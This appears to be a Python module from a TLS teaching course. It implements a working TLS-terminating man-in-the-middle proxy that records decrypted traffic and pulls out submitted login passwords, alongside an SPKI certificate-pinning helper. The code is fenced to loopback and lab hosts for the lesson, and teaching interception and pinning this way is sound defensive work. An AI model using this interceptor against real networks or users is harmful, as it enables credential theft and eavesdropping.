"""A man in the middle on loopback, and certificate pinning (introduced in notebook 07).

Theory of operation
-------------------
TLS promises a client two things: nobody can read or change the bytes (encryption and
integrity), and the peer is who the client asked for (authentication). The first
promise is worthless without the second: a client that does not check *who* it is
talking to will happily encrypt its password for an attacker.

:class:`Interceptor` is that attacker, built for the lesson. It is a TLS-*terminating*
proxy, not a byte relay like :class:`helpers.capture.Relay`::

    victim ==TLS #1==> Interceptor ==TLS #2==> real server
           (attacker's certificate)   (the real server's certificate)

1. It listens on 127.0.0.1 (port 0). A victim who has been steered to it (a rogue
   Wi-Fi access point, ARP or DNS spoofing, a hostile proxy setting: here, simply the
   wrong port) starts a handshake. The interceptor answers with **its own**
   certificate: a self-signed one, one a trusted CA issued for *another* name, or one
   for the right name from a CA the victim trusts but should not (a corporate
   inspection root, a compromised CA).
2. If the victim accepts that certificate, the interceptor opens its own TLS
   connection to the real server, as an ordinary verifying client would (attackers
   need no tricks on that side: the real server's certificate is valid).
3. It then forwards bytes both ways. Between the two TLS connections they are
   **plaintext**, and it records every chunk (:class:`helpers.capture.Chunk`): that is
   where the password is read. The victim still gets the real page, so nothing looks
   wrong.

If the victim *does* verify, step 1 ends in a failed handshake: the victim sends an
alert (``unknown_ca``, ``bad_certificate``...) and closes, and the interceptor learns
nothing but that alert. Each attempt, successful or not, is an :class:`Interception`.

Pinning (RFC 7469 §2.4) is the extra check for the last case, where the attacker's
certificate *is* trusted: the client remembers a hash of the server's public key (its
SubjectPublicKeyInfo, SPKI) and compares it after every handshake. :func:`spki_pin`
computes it the way HPKP did: ``base64(SHA-256(DER SubjectPublicKeyInfo))``.

The interceptor is a context manager; :meth:`Interceptor.stop` closes the listening
socket and every connection and joins every thread. One thread accepts; each victim
connection gets its own thread, which waits on both sockets with :mod:`selectors`,
so one SSL object is never used from two threads at once (OpenSSL forbids that).

Fenced for the classroom: it listens on loopback only and forwards only to loopback or
a lab server, unless the caller passes ``allow_network=True`` / ``allow_remote=True``
(the second also needs live mode, :mod:`helpers.live`); see
:func:`helpers.servers.require_loopback_bind`. It serves at most
:attr:`Interceptor.max_victims` connections at once and keeps at most
:attr:`Interceptor.max_interceptions` records of at most
:attr:`Interceptor.max_recorded` bytes each way, so a flood of connections cannot
exhaust the kernel's threads or memory.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import html
import re
import select
import selectors
import socket
import ssl
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Self

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.x509.oid import NameOID

from . import names
from .capture import Chunk
from .errors import PEMError
from .pki.panics import panics_as
from .servers import require_local_upstream, require_loopback_bind
from .serving import Service, accept, hang_up, listen, set_nodelay

if TYPE_CHECKING:
    from .pki import Leaf

__all__ = ["HTTPMessage", "Interception", "Interceptor", "spki_pin"]

HANDSHAKE_TIMEOUT = 5.0  # seconds a victim may take to finish its handshake with us
IDLE_TIMEOUT = 15.0  # seconds a relayed connection may stay silent before we close it
_POLL = 0.1  # how often connection threads look at the stop flag


def spki_pin(cert: x509.Certificate | bytes) -> str:
    """The SPKI pin of a certificate: ``base64(SHA-256(DER SubjectPublicKeyInfo))``.

    RFC 7469 §2.4 ("pin-sha256")::

        SubjectPublicKeyInfo  ::=  SEQUENCE  {               -- RFC 5280 §4.1
             algorithm            AlgorithmIdentifier,
             subjectPublicKey     BIT STRING  }

    Hashing the *public key* rather than the whole certificate means the pin survives a
    renewal that keeps the key, and that two certificates for the same key (from two
    different CAs) have the same pin. ``cert`` may be a certificate or its DER bytes
    (what ``SSLSocket.getpeercert(binary_form=True)`` returns).
    """
    if isinstance(cert, (bytes, bytearray, memoryview)):
        # cryptography parses DER in Rust; a panic there is a BaseException that slips
        # past ``except Exception`` (helpers/pki/panics.py), so it becomes a PEMError.
        with panics_as(
            PEMError,
            f"These {len(cert)} bytes could not be parsed as a DER certificate",
            "Pass what getpeercert(binary_form=True) returned, or an x509.Certificate.",
        ):
            cert = x509.load_der_x509_certificate(bytes(cert))
    der = cert.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return base64.b64encode(hashlib.sha256(der).digest()).decode("ascii")


def _cn(cert: x509.Certificate | None, which: str = "subject") -> str:
    if cert is None:
        return "?"
    name = cert.subject if which == "subject" else cert.issuer
    attrs = name.get_attributes_for_oid(NameOID.COMMON_NAME)
    if attrs:
        value = attrs[0].value
        return value if isinstance(value, str) else value.decode("utf-8", "replace")
    return name.rfc4514_string() or "(empty name)"


# --------------------------------------------------------------------------- reading HTTP


@dataclass
class HTTPMessage:
    """One HTTP/1.1 request or response read from recorded plaintext (RFC 9112 §2.1)."""

    start_line: str
    headers: dict[str, str]
    body: bytes

    @property
    def form(self) -> dict[str, str]:
        """The fields of an ``application/x-www-form-urlencoded`` body (a login form)."""
        kind = self.headers.get("content-type", "").split(";")[0].strip().lower()
        if kind != "application/x-www-form-urlencoded":
            return {}
        pairs = urllib.parse.parse_qsl(self.body.decode("utf-8", "replace"))
        return dict(pairs)


def parse_http(data: bytes) -> list[HTTPMessage]:
    """Split plaintext into HTTP messages: start line, headers, ``Content-Length`` body.

    Just enough of RFC 9112 for what a login exchange contains; anything it cannot
    frame (chunked bodies, a truncated message) ends the list.
    """
    messages: list[HTTPMessage] = []
    pos = 0
    while pos < len(data):
        end = data.find(b"\r\n\r\n", pos)
        if end < 0:
            break
        lines = data[pos:end].decode("latin-1").split("\r\n")
        headers: dict[str, str] = {}
        for line in lines[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        try:
            length = int(headers.get("content-length", "0"))
        except ValueError:
            break
        body = data[end + 4 : end + 4 + length]
        if len(body) < length:
            break  # the rest of the body has not passed through yet
        messages.append(HTTPMessage(lines[0], headers, body))
        pos = end + 4 + length
    return messages


# --------------------------------------------------------------------------- one victim


@dataclass
class Interception:
    """One victim connection to the :class:`Interceptor`, and what it gave away.

    ``accepted`` is True when the victim finished the handshake with the attacker's
    certificate. ``refused`` holds the error when it did not (the victim's alert, as
    OpenSSL reports it on the attacker's side). ``chunks`` are the plaintext bytes
    that passed through, both ways.
    """

    victim: tuple[str, int]
    presented: x509.Certificate
    started: float
    sni: str | None = None
    accepted: bool = False
    refused: str | None = None
    upstream_error: str | None = None
    upstream_cert: x509.Certificate | None = None
    version: str | None = None
    chunks: list[Chunk] = field(default_factory=list)
    finished: bool = False
    #: Bytes that passed through but were not recorded (over :attr:`Interceptor.max_recorded`).
    unrecorded: int = 0

    def data(self, direction: str) -> bytes:
        return b"".join(c.data for c in list(self.chunks) if c.direction == direction)

    @property
    def requests(self) -> list[HTTPMessage]:
        """The HTTP requests the victim sent, read in the clear."""
        return parse_http(self.data("c2s"))

    @property
    def responses(self) -> list[HTTPMessage]:
        """The HTTP responses the real server sent back through the attacker."""
        return parse_http(self.data("s2c"))

    @property
    def stolen(self) -> list[dict[str, str]]:
        """Every submitted form (``{"user": ..., "password": ...}``) the attacker read."""
        return [r.form for r in self.requests if r.form]

    @property
    def done(self) -> bool:
        """The connection ended, or every request got its complete response.

        A client may keep an HTTPS connection open after its last response (keep-alive,
        a connection pool), so "ended" alone could take a long time to come.
        """
        if self.finished:
            return True
        asked = len(self.requests)
        return asked > 0 and len(self.responses) >= asked

    @property
    def outcome(self) -> str:
        if not self.accepted:
            return f"the victim refused the attacker's certificate ({self.refused})"
        if self.upstream_error:
            return f"accepted, but the attacker could not reach the real server ({self.upstream_error})"
        if not self.chunks:
            return "handshake accepted, then the victim hung up without sending a byte"
        return f"intercepted: {len(self.data('c2s'))} bytes read from the victim, {len(self.data('s2c'))} from the server"

    def __repr__(self) -> str:
        return f"<Interception from {self.victim[0]}:{self.victim[1]}: {self.outcome}>"

    def _repr_html_(self) -> str:
        return _interception_html(self)


# --------------------------------------------------------------------------- the attacker


class Interceptor(Service):
    """A TLS-terminating man in the middle on 127.0.0.1 (see the module docstring).

    ``upstream`` is the real server's ``(host, port)``; ``certificate`` is the
    :class:`helpers.pki.Leaf` the attacker presents to victims. ``upstream_hostname``
    is the name verified on the real server's certificate (default: the name the
    victim sent in SNI). ``upstream_cafile`` is what the attacker trusts for that
    second connection (default: the system store): the attacker verifies the real
    server like any careful client would, because the real server's certificate is
    perfectly valid.

    ``bind`` must be loopback unless ``allow_network=True``. That argument is dangerous:
    on ``0.0.0.0`` or a LAN address, anyone on the network who connects (and accepts
    the certificate) hands their plaintext to this notebook, and to its saved outputs.
    ``upstream`` must be loopback or a lab server; a real host also needs
    ``allow_remote=True`` *and* live mode: intercepting someone else's traffic to a real
    site is an attack, not an exercise.

    >>> with Interceptor(bank.address, attacker_leaf, upstream_cafile=ca_file) as mitm:
    ...     requests.post(f"https://bank.lab.localhost:{mitm.port}/login", ...)
    ...     mitm.wait()
    ...     mitm.stolen
    """

    def __init__(
        self,
        upstream: tuple[str, int],
        certificate: Leaf,
        *,
        upstream_hostname: str | None = None,
        upstream_cafile: str | None = None,
        bind: str = "127.0.0.1",
        port: int = 0,
        allow_network: bool = False,
        allow_remote: bool = False,
    ) -> None:
        require_loopback_bind(bind, allow_network=allow_network, what="The Interceptor")
        require_local_upstream(str(upstream[0]), allow_remote=allow_remote, what="The Interceptor")
        # A lab name is answered only by a lab running in this process (helpers.names):
        # with none, refuse now, before any victim arrives and the name goes to DNS.
        names.refuse_unserved(upstream[0])
        self.upstream = (upstream[0], int(upstream[1]))
        self.certificate = certificate
        self.upstream_hostname = upstream_hostname
        self.interceptions: list[Interception] = []
        self._server_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        # Explicit: a Debian/Ubuntu Python's default minimum is MINIMUM_SUPPORTED, not 1.2.
        self._server_ctx.minimum_version = ssl.TLSVersion.TLSv1_2
        certificate.configure_server(self._server_ctx)
        self._server_ctx.sni_callback = self._remember_sni
        # The attacker's client side is an ordinary verifying client: it checks the
        # real server's chain and name like anyone else (it has no reason not to).
        self._upstream_ctx = ssl.create_default_context(cafile=upstream_cafile)
        self._address = (bind, port)
        self._listener: socket.socket | None = None
        self._threads: list[threading.Thread] = []
        self._stopping = threading.Event()
        self._changed = threading.Condition()
        self._sni: dict[int, str] = {}
        self._open: set[socket.socket] = set()  # victims' sockets, for stop() to hang up
        #: Connections closed on arrival because of :attr:`max_victims` or :attr:`max_interceptions`.
        self.turned_away = 0

    #: Victim connections served at once (one thread each); more are closed on arrival.
    max_victims: int = 32
    #: Interceptions kept in :attr:`interceptions`; once full, new victims are turned away.
    max_interceptions: int = 256
    #: Plaintext bytes recorded per interception and direction; the rest is only forwarded.
    max_recorded: int = 1 << 20

    # --- lifecycle
    def start(self) -> Self:
        if self._listener is not None:
            return self
        self._stopping.clear()
        # Port 0: the OS picks a free port; accept() wakes every ACCEPT_POLL for stop().
        self._listener = listen(
            *self._address,
            what="The Interceptor",
            hint="Use port 0 (the OS picks a free one) and 127.0.0.1.",
        )
        thread = threading.Thread(target=self._accept_loop, name="mitm-accept", daemon=True)
        self._threads = [thread]
        thread.start()
        return self

    def stop(self) -> None:
        """Close the port and every relayed connection; join every thread (idempotent)."""
        listener, self._listener = self._listener, None
        if listener is None:
            return
        self._stopping.set()
        with self._changed:
            victims = list(self._open)
        for sock in victims:  # wakes a thread still waiting for a victim's handshake
            hang_up(sock)  # the descriptor only, never the TLS state that thread uses
        for thread in list(self._threads):
            thread.join(timeout=5)
        listener.close()
        self._threads = []

    # --- where it is, what it saw
    @property
    def address(self) -> tuple[str, int]:
        if self._listener is None:
            raise RuntimeError("the interceptor is not running: call start() or use `with`")
        host, port = self._listener.getsockname()[:2]
        return str(host), int(port)

    @property
    def stolen(self) -> list[dict[str, str]]:
        """Every form any victim submitted through this interceptor."""
        return [form for i in list(self.interceptions) for form in i.stolen]

    def wait(self, count: int = 1, timeout: float = 5.0) -> list[Interception]:
        """Block until ``count`` victim connections are :attr:`~Interception.done`.

        Returns every interception so far.
        """
        deadline = time.monotonic() + timeout
        with self._changed:
            while sum(i.done for i in self.interceptions) < count:
                left = deadline - time.monotonic()
                if left <= 0:
                    raise TimeoutError(f"fewer than {count} intercepted connections ended in time")
                self._changed.wait(left)
        return list(self.interceptions)

    def __repr__(self) -> str:
        state = f"on {self.address[0]}:{self.port}" if self._listener else "stopped"
        n = len(self.interceptions)
        return (
            f"<Interceptor {state} -> {self.upstream[0]}:{self.upstream[1]}, "
            f"{n} victim{'' if n == 1 else 's'}>"
        )

    def _repr_html_(self) -> str:
        if not self.interceptions:
            return f"<p>{html.escape(repr(self))}: no victim yet.</p>"
        return "".join(i._repr_html_() for i in list(self.interceptions))

    # --- the threads
    def _remember_sni(self, sock: ssl.SSLSocket, name: str | None, ctx: ssl.SSLContext) -> None:
        # SNI travels in the clear in the ClientHello (RFC 6066 §3): even a victim that
        # refuses our certificate has told us which site it wanted.
        if name:
            self._sni[sock.fileno()] = name

    def _accept_loop(self) -> None:
        listener = self._listener
        assert listener is not None
        while not self._stopping.is_set():
            accepted = accept(listener)
            if accepted is None:
                continue
            raw, victim = accepted
            self._threads = [t for t in self._threads if t.is_alive()]  # forget ended ones
            busy = len(self._threads) - 1  # the accept thread is the first
            if busy >= self.max_victims or len(self.interceptions) >= self.max_interceptions:
                raw.close()  # turned away: no thread, no record
                self.turned_away += 1
                continue
            thread = threading.Thread(
                target=self._serve, args=(raw, victim), name=f"mitm-{victim[1]}", daemon=True
            )
            self._threads.append(thread)
            thread.start()

    def _finish(self, record: Interception) -> None:
        with self._changed:
            record.finished = True
            self._changed.notify_all()

    def _serve(self, raw: socket.socket, victim: tuple[str, int]) -> None:
        record = Interception(
            victim=(str(victim[0]), int(victim[1])),
            presented=self.certificate.cert,
            started=time.monotonic(),
        )
        with self._changed:
            self.interceptions.append(record)
        try:
            self._intercept(record, raw)
        except Exception as exc:  # noqa: BLE001 - no traceback in the kernel: record it, go on
            if record.accepted:
                record.upstream_error = record.upstream_error or f"interceptor error: {exc!r}"
            else:
                record.refused = record.refused or f"interceptor error: {exc!r}"
            raw.close()
            self._finish(record)

    def _intercept(self, record: Interception, raw: socket.socket) -> None:
        raw.settimeout(HANDSHAKE_TIMEOUT)  # bounds the whole handshake, not each read
        set_nodelay(raw)
        fd = raw.fileno()  # the TLS socket keeps the same file descriptor
        # do_handshake_on_connect=False: the TLS socket exists before the handshake, so
        # stop() can hang up on a victim that is still (or never) shaking hands.
        tls = self._server_ctx.wrap_socket(raw, server_side=True, do_handshake_on_connect=False)
        with self._changed:
            self._open.add(tls)
        try:
            try:
                tls.do_handshake()
            except (ssl.SSLError, OSError) as exc:
                # The victim checked our certificate and said no (an alert), or hung up.
                record.refused = getattr(exc, "reason", None) or str(exc) or type(exc).__name__
                record.sni = self._sni.pop(fd, None)
                tls.close()
                self._finish(record)
                return
            record.accepted = True
            record.sni = self._sni.pop(fd, None)
            record.version = tls.version()
            try:
                upstream = self._connect_upstream(record)
            except (ssl.SSLError, OSError, PEMError) as exc:
                record.upstream_error = str(exc)
                tls.close()
                self._finish(record)
                return
            try:
                self._pump(record, tls, upstream)
            finally:
                for sock in (tls, upstream):
                    with contextlib.suppress(OSError):
                        sock.close()
                self._finish(record)
        finally:
            with self._changed:
                self._open.discard(tls)

    def _connect_upstream(self, record: Interception) -> ssl.SSLSocket:
        hostname = self.upstream_hostname or record.sni or self.upstream[0]
        raw = socket.create_connection(self.upstream, timeout=HANDSHAKE_TIMEOUT)
        set_nodelay(raw)
        try:
            upstream = self._upstream_ctx.wrap_socket(raw, server_hostname=hostname)
        except BaseException:
            raw.close()
            raise
        try:
            der = upstream.getpeercert(binary_form=True)
            # The real server's bytes go to cryptography's Rust parser: a panic there is a
            # BaseException, which would skip every handler and leave this socket open.
            with panics_as(
                PEMError,
                f"The certificate {self.upstream[0]} sent could not be parsed",
                "cryptography cannot read it; look at it with openssl s_client -showcerts.",
            ):
                record.upstream_cert = x509.load_der_x509_certificate(der) if der else None
        except BaseException:
            upstream.close()
            raise
        return upstream

    def _pump(self, record: Interception, victim: ssl.SSLSocket, server: ssl.SSLSocket) -> None:
        """Copy plaintext both ways, recording it, until either side closes.

        Both sockets are non-blocking: a readable socket may carry only a TLS 1.3
        NewSessionTicket (RFC 8446 §4.6.1) and no application data, and a blocking
        ``recv()`` would then sit waiting while the other side's bytes pile up.
        """
        peers = {victim: (server, "c2s"), server: (victim, "s2c")}
        for sock in peers:
            sock.setblocking(False)
        last = time.monotonic()
        recorded = {"c2s": 0, "s2c": 0}
        with selectors.DefaultSelector() as selector:
            for sock in peers:
                selector.register(sock, selectors.EVENT_READ)
            while not self._stopping.is_set():
                # Bytes OpenSSL already decrypted sit in its buffer, invisible to select().
                ready = [s for s in peers if s.pending()]
                if not ready:
                    ready = [key.fileobj for key, _ in selector.select(_POLL)]  # type: ignore[misc]
                if not ready:
                    if time.monotonic() - last > IDLE_TIMEOUT:
                        return
                    continue
                last = time.monotonic()
                for sock in ready:
                    other, direction = peers[sock]  # type: ignore[index]
                    try:
                        data = sock.recv(65536)  # type: ignore[union-attr]
                    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                        continue  # a record without application data (a session ticket)
                    except (ssl.SSLError, OSError):
                        return
                    if not data:
                        return  # one side closed: the relay is over
                    if not self._send_all(other, data):
                        return
                    keep = data[: max(0, self.max_recorded - recorded[direction])]
                    recorded[direction] += len(keep)
                    with self._changed:
                        record.unrecorded += len(data) - len(keep)
                        if keep:
                            record.chunks.append(Chunk(direction, keep, last - record.started))  # type: ignore[arg-type]
                        self._changed.notify_all()

    def _send_all(self, sock: ssl.SSLSocket, data: bytes) -> bool:
        """``sendall`` for a non-blocking TLS socket; False if the peer is gone."""
        view = memoryview(data)
        while view and not self._stopping.is_set():
            try:
                sent = sock.send(view)
            except (ssl.SSLWantWriteError, BlockingIOError):
                select.select([], [sock], [], _POLL)
                continue
            except ssl.SSLWantReadError:
                select.select([sock], [], [], _POLL)
                continue
            except (ssl.SSLError, OSError):
                return False
            view = view[sent:]
        return not view


# --------------------------------------------------------------------------- display

_FG, _MUTED, _BG, _BORDER = "#1f2328", "#57606a", "#f6f8fa", "#d0d7de"
_RED, _GREEN, _AMBER = "#cf222e", "#1a7f37", "#b35900"


def _box(title: str, lines: Iterator[str] | list[str], colour: str) -> str:
    body = "<br>".join(lines)
    return (
        f'<div style="border:2px solid {colour};border-radius:6px;padding:6px 10px;'
        f'background:#ffffff;color:{_FG};min-width:150px">'
        f'<div style="font-weight:600;color:{colour}">{title}</div>'
        f'<div style="font-size:12px;color:{_MUTED}">{body}</div></div>'
    )


def _arrow(label: str, colour: str) -> str:
    return (
        f'<div style="text-align:center;padding:0 6px;color:{colour};font-size:12px">'
        f'{label}<div style="font-size:20px;line-height:1">&#10230;</div></div>'
    )


def _interception_html(i: Interception) -> str:
    e = html.escape
    presented = (
        f"presents <b>{e(_cn(i.presented))}</b><br>issued by {e(_cn(i.presented, 'issuer'))}"
    )
    if i.accepted and not i.upstream_error and i.data("c2s"):
        colour, verdict = _RED, "the victim accepted the attacker's certificate"
    elif i.accepted and not i.upstream_error:
        colour, verdict = _GREEN, "the handshake passed, then the victim hung up: nothing to read"
    elif i.accepted:
        colour, verdict = _AMBER, "accepted, but the real server was unreachable"
    else:
        colour, verdict = _GREEN, "the victim refused: nothing to read"
    victim = _box(
        "victim", [f"{e(i.victim[0])}:{i.victim[1]}", f"asked for {e(i.sni or '?')}"], _FG
    )
    attacker = _box("attacker", [presented], _RED)
    if i.upstream_cert is not None:
        server = _box(
            "real server",
            [f"its real certificate: <b>{e(_cn(i.upstream_cert))}</b>"],
            _FG,
        )
        second = _arrow("TLS #2 (verified)", _MUTED)
    else:
        server = _box("real server", ["never contacted"], _BORDER)
        second = _arrow("", _BORDER)
    first = _arrow(f"TLS #1 {'✓' if i.accepted else '✗'}", colour)
    diagram = (
        f'<div style="display:flex;align-items:center;gap:2px;margin:4px 0">'
        f"{victim}{first}{attacker}{second}{server}</div>"
    )
    rows = []
    for request in i.requests:
        rows.append(f"<code>{e(request.start_line)}</code>")
        for key, value in request.form.items():
            style = f"color:{_RED};font-weight:700" if "pass" in key.lower() else ""
            rows.append(f'&nbsp;&nbsp;{e(key)} = <code style="{style}">{e(value)}</code>')
    for response in i.responses:
        page = re.sub(r"(?is)<head.*?</head>", " ", response.body.decode("utf-8", "replace"))
        text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
        excerpt = f": “{e(text[-90:])}”" if text else ""
        rows.append(
            f"<code>{e(response.start_line)}</code> (the real server's answer, passed on){excerpt}"
        )
    if not i.accepted:
        rows.append(f"Handshake error on the attacker's side: <code>{e(i.refused or '?')}</code>")
    elif i.upstream_error:
        rows.append(f"Upstream error: <code>{e(i.upstream_error)}</code>")
    elif not rows:
        rows.append("The handshake completed, then the victim closed without sending a byte.")
    read = "<br>".join(rows)
    return (
        f'<div style="font-family:system-ui,sans-serif;font-size:13px;color:{_FG};'
        f"background:{_BG};border:1px solid {_BORDER};border-left:5px solid {colour};"
        f'padding:8px 12px;margin:4px 0">'
        f'<div style="font-weight:600;color:{colour}">Man in the middle: {e(verdict)}</div>'
        f'{diagram}<div style="margin-top:4px">'
        f'<span style="font-weight:600">What the attacker read in the clear:</span><br>{read}'
        f"</div></div>"
    )
